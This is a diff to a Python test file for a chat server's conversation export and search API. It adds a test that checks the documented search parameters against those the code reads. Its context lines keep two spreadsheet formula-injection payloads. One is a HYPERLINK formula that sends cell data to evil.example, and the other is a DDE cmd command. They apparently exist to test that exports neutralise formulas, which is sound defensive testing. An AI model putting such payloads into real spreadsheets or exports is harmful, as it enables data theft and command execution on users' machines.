@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -13,9 +15,10 @@ import openpyxl
 import pytest
 from support.chat import Operator, ServerThread, open_reader, recv, send
 
-from chat_server import export
+from chat_server import conversation_search_api, export
 
 PATH = "/api/operator/conversations"
+DOC = Path(__file__).resolve().parents[2] / "docs" / "protocol.md"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
 EVIL_BODY = "+1+cmd|' /C calc'!A0 оплата"
 
@@ -150,3 +153,17 @@ async def test_an_export_stops_at_the_cap_and_says_so(server: ServerThread,
             rows = [[c.value for c in row] for row in sheet.iter_rows()]
         assert len(rows) == 4 and rows[-1][0].startswith("Only the first 2 of 3")
     await anna.close()
+
+
+def test_the_documented_parameters_are_the_ones_read() -> None:
+    text = DOC.read_text(encoding="utf-8")
+    section = text[text.index("## Search across conversations"):]
+    documented = set()
+    for line in section.splitlines():
+        if line.startswith("| `"):
+            documented |= set(re.findall(r"`([a-z]+)`", line.split("|")[1]))
+    assert documented == set(conversation_search_api.PARAMETERS)
+    source = Path(conversation_search_api.__file__).read_text(encoding="utf-8")
+    read = set(re.findall(r'params\.(?:get|getlist)\("([a-z]+)"', source))
+    read |= set(re.findall(r'_(?:choice|text|day)\(params, "([a-z]+)"', source))
+    assert read == set(conversation_search_api.PARAMETERS)
